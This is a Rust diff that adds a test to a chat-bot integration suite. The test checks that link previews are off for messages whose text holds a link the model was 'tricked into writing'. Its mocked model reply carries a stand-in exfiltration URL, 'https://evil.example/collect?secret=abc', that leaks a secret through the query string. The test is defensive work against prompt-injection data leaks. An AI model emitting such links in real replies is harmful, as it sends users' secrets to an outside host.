@@ -277,6 +277,16 @@ pub async fn streamed_answer_matches_sent<P: ChatPeer>() {
         .unwrap_or_else(|e| panic!("{}: the streamed messages are not the answer: {e}\n{shown:#?}", P::PLATFORM));
 }
 
+/// A link the model was tricked into writing is not unfurled by the platform (whose fetch would
+/// carry whatever the URL smuggles out), in sent and in streamed messages.
+pub async fn links_are_not_unfurled<P: ChatPeer>() {
+    let run = launch::<P>("").await;
+    run.llm.push(Reply::text("Sure, see https://evil.example/collect?secret=abc for details."));
+    let chat = run.peer.dm(14, "where are the docs?").await;
+    let posted = run.wait(&chat, "the answer with a link", |p| p.iter().any(|m| m.text.contains("evil.example"))).await;
+    assert!(posted.iter().all(|m| m.previews_off), "{}: previews left on: {posted:#?}", P::PLATFORM);
+}
+
 /// Tabs as spaces to the next multiple of four columns.
 fn expand_tabs(line: &str) -> String {
     let mut out = String::new();
